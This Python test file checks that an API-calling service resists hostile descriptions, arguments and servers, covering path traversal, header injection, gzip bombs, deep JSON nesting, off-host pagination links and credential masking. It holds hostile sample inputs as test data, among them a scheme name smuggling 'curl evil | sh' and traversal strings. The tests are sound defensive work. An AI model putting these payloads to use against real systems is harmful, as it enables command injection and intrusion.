"""Calls whose description, arguments or server are hostile: nothing leaks, nothing is reached, nobody else suffers."""

from __future__ import annotations

import asyncio
import gzip
import json
from collections.abc import AsyncIterator, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.knowledge_apis.conftest import described, write
from tests.knowledge_apis.serving import Site, site
from thresher.core import Caller, InvalidInput, NotAllowed, SourceUnavailable
from thresher.core.encoding import dumps
from thresher.knowledge.apis import ApiReply, ApiService, CallRequest, CredentialRequest, EndpointReference
from thresher.knowledge.apis.calls.access import origin_of
from thresher.services import Services

NAME = "shop"
SECRET = "s3cret/with+signs=="
MANY = 10_000
ODD = "x; curl evil | sh"
SCHEMES: Mapping[str, Any] = {
    "Key": {"type": "apiKey", "in": "query", "name": "key"},
    "Session": {"type": "apiKey", "in": "cookie", "name": "session"},
    ODD: {"type": "http", "scheme": "bearer"},
    "OAuth": {"type": "oauth2", "flows": {"clientCredentials": {"tokenUrl": "token", "scopes": {}}}},
}


def takes(*names: str, place: str = "query", security: str = "") -> dict[str, Any]:
    """An operation with parameters that are texts."""
    parameters = [
        {"name": name, "in": place, "schema": {"type": "string"}, "required": place == "path"} for name in names
    ]
    return {"parameters": parameters, "responses": {}, **({"security": [{security: []}]} if security else {})}


PATHS: Mapping[str, Any] = {
    "/plain": {"get": takes()},
    "/asks": {"get": takes("q")},
    "/many": {"get": takes(*(f"p{number}" for number in range(MANY)))},
    "/files/{path}": {"get": takes("path", place="path")},
    "/heads": {"get": takes("X-Text", "X-HTTP-Method-Override", "X-Größe", "X-A\r\nX-B", place="header")},
    "/signed": {"get": takes("page", "key", security="Key")},
    "/cookie": {"get": takes(security="Session")},
    "/odd": {"get": takes(security=ODD)},
    "/token": {"get": takes(security="OAuth")},
}


@pytest.fixture
async def shop(services: Services, caller: Caller, tmp_path: Path) -> AsyncIterator[Site]:
    """A server that a person has allowed; its description is indexed."""
    async with site() as found:
        document = described({}) | {"paths": PATHS, "servers": [{"url": found.base}]}
        document["components"] = {"securitySchemes": SCHEMES}
        await services.apis.add(caller, NAME, [str(write(tmp_path / "shop.json", document))])
        await services.apis.access.allow_host(caller, NAME, found.base, private=True)
        yield found


def get(path: str, arguments: dict[str, Any] | None = None, **more: Any) -> CallRequest:
    """A call of a path."""
    return CallRequest(EndpointReference(provider=NAME, method="GET", path=path), arguments or {}, **more)


async def answered(service: ApiService, caller: Caller, **more: Any) -> ApiReply:
    """The answer of `/plain`, which every face can show."""
    reply = await service.call(caller, get("/plain", **more))
    assert dumps(reply)
    return reply


@pytest.mark.parametrize(
    ("allowed", "other"), [("https://fass.de", "https://faß.de"), ("https://strasse.example", "https://straße.example")]
)
async def test_an_allowed_host_is_the_one_that_is_reached(
    shop: Site, service: ApiService, caller: Caller, allowed: str, other: str
) -> None:
    """Names that older rules for international names take for one are two."""
    await service.access.allow_host(caller, NAME, allowed, private=False)

    assert origin_of(other) != allowed
    with pytest.raises(NotAllowed, match="Nobody has allowed"):
        await service.call(caller, get("/plain", server=other))


@pytest.mark.parametrize("value", ["a/../../b", "..\\..", "x/..", "./x", "../admin"])
async def test_no_value_climbs_out_of_its_path(shop: Site, service: ApiService, caller: Caller, value: str) -> None:
    """Also not for servers that read `%2F` as a slash."""
    with pytest.raises(InvalidInput, match="between slashes"):
        await service.call(caller, get("/files/{path}", {"path": value}))


@pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-Größe", "X-A\r\nX-B", "X-Text"])
async def test_headers_that_change_the_request_are_refused(
    shop: Site, service: ApiService, caller: Caller, name: str
) -> None:
    """The method, what HTTP cannot hold, spaces at the ends; and the server is not taken for broken."""
    shop.serves("/plain", b"fine")
    for _ in range(4):
        with pytest.raises(InvalidInput) as refused:
            await service.call(caller, get("/heads", {name: " DELETE "}))
        assert "DELETE" not in f"{refused.value}"

    assert (await answered(service, caller)).body == "fine"
    assert len(shop.asked) == 1


async def test_an_address_that_is_too_long_is_refused(shop: Site, service: ApiService, caller: Caller) -> None:
    """It is the caller's fault, not the server's."""
    with pytest.raises(InvalidInput, match="cannot be written as HTTP"):
        await service.call(caller, get("/asks", {"q": "a" * 70_000}))


async def test_arguments_take_no_longer_than_their_number(shop: Site, service: ApiService, caller: Caller) -> None:
    """Ten thousand unknown ones for ten thousand parameters, and one that is nested nine hundred times."""
    deep: Any = 1
    for _ in range(900):
        deep = [deep]
    async with asyncio.timeout(20):
        with pytest.raises(InvalidInput, match="and 9992 more"):
            await service.call(caller, get("/many", {f"z{number}": "x" for number in range(MANY)}))
    with pytest.raises(InvalidInput, match="not JSON"):
        await service.call(caller, get("/asks", {"q": deep}))


@pytest.mark.parametrize("charset", ["hex", "undefined", "idna", "punycode", "none-such"])
async def test_an_encoding_that_is_none_of_texts_is_ignored(
    shop: Site, service: ApiService, caller: Caller, charset: str
) -> None:
    """Some are none, and some take time with the square of the length."""
    shop.serves("/plain", b"a-b", content_type=f"text/plain; charset={charset}")

    assert (await answered(service, caller)).body == "a-b"


@pytest.mark.parametrize(
    ("body", "encoding"),
    [
        (b'{"a": NaN, "b": 1e999}', "json"),
        (b'{"a": "\\ud800"}', "text"),
        (b'{"a":[' * 450 + b"]}" * 450, "text"),
        (b"[" * 100_000, "text"),
    ],
)
@pytest.mark.parametrize("budget", [0, 30])
async def test_strange_json_can_be_shown(
    shop: Site, service: ApiService, caller: Caller, body: bytes, encoding: str, budget: int
) -> None:
    """Numbers and characters that JSON cannot hold, and nesting without end."""
    shop.serves("/plain", body, content_type="application/json")
    reply = await answered(service, caller, budget=budget)

    assert reply.status == 200
    assert budget or reply.encoding == encoding


async def test_a_compressed_answer_is_all_or_nothing(shop: Site, service: ApiService, caller: Caller) -> None:
    """All its members, at most so many bytes, and an error where it breaks off."""
    shop.serves("/plain", gzip.compress(b"one ") + gzip.compress(b"two"), content_encoding="gzip")
    both = await answered(service, caller)
    shop.serves("/plain", gzip.compress(b"\0" * (64 << 20)), content_encoding="gzip")
    bomb = await answered(service, caller)
    shop.serves("/plain", gzip.compress(b"x" * 1_000)[:-12], content_encoding="gzip")
    with pytest.raises(SourceUnavailable, match="breaks off"):
        await answered(service, caller)

    assert both.body == "one two"
    assert "larger than 8 MiB" in bomb.left_out


async def test_a_date_without_bounds_is_no_wait(shop: Site, service: ApiService, caller: Caller) -> None:
    """The offset of a `Retry-After` can be any number."""
    shop.serves("/plain", b"x", status=503, retry_after="Mon, 01 Jan 2024 00:00:00 +99999999999999999999")

    assert (await answered(service, caller)).status == 503


@pytest.mark.parametrize("address", ["http://[evil", "javascript:x", "//evil.example/x", "http://u:p@evil/", "/a b\\"])
async def test_a_next_page_elsewhere_is_said_and_not_fetched(
    shop: Site, service: ApiService, caller: Caller, address: str
) -> None:
    """In a header and in a body."""
    shop.serves("/plain", b"[]", link=f'<{address}>; rel="next"')
    by_header = await answered(service, caller, pages=2)
    shop.serves("/plain", json.dumps({"next": address, "links": {"next": address}}).encode(), content_type="text/json")
    by_body = await answered(service, caller, pages=2)

    assert address.startswith("/a") or "not fetched" in f"{by_header.notes}"
    assert all("evil" not in one.split("Host: ")[1] for one in shop.asked)
    assert by_body.status in (200, 404)


async def test_pages_carry_the_credential_once(shop: Site, service: ApiService, caller: Caller) -> None:
    """Also where the answer's link has it, which is masked; the arguments of the next page never show it."""
    await service.access.set_credential(caller, NAME, CredentialRequest(SECRET, "Key"))
    key = quote(SECRET, safe="")
    body = json.dumps({"next": f"{shop.base}/signed?key={key}&page=2"}).encode()
    shop.serves(f"/signed?key={key}", body, content_type="application/json")
    shop.serves(f"/signed?page=2&key={key}", b"{}", content_type="application/json")
    both = await service.call(caller, get("/signed", pages=2))
    shop.serves(f"/signed?key={key}", b"[]", link=f'<{shop.base}/signed?page={key}&key={key}>; rel="next"')
    shared = await service.call(caller, get("/signed"))

    assert both.body[1] == {}
    assert shared.next == {"page": "***"}
    assert SECRET not in dumps((both, shared))


async def test_a_cookie_is_sent_as_it_was_stored(shop: Site, service: ApiService, caller: Caller) -> None:
    """Servers do not decode cookies, so nothing is encoded that one can hold."""
    await service.access.set_credential(caller, NAME, CredentialRequest(SECRET, "Session"))
    await service.call(caller, get("/cookie"))

    assert f"Cookie: session={SECRET}\r\n" in shop.asked[-1]


async def test_calls_at_the_same_time_fetch_one_token(shop: Site, service: ApiService, caller: Caller) -> None:
    """Some servers end a token when they give the next."""
    address = shop.serves("/tokens", b'{"access_token": "t0ken-1", "expires_in": 3600}')
    given = CredentialRequest(SECRET, "OAuth", user="me", token_url=address)
    await service.access.set_credential(caller, NAME, given)
    await asyncio.gather(*(service.call(caller, get("/token")) for _ in range(8)))

    assert sum(one.startswith("POST /tokens") for one in shop.asked) == 1


async def test_what_a_description_says_is_no_command(shop: Site, service: ApiService, caller: Caller) -> None:
    """A name in a command is quoted; a token address that leads nowhere is asked for."""
    with pytest.raises(NotAllowed) as unsigned:
        await service.call(caller, get("/odd"))
    with pytest.raises(InvalidInput) as relative:
        await service.access.set_credential(caller, NAME, CredentialRequest(SECRET, "OAuth", user="me"))

    assert unsigned.value.hint.endswith(f"--scheme '{ODD}'")
    assert "--token-url" in relative.value.hint
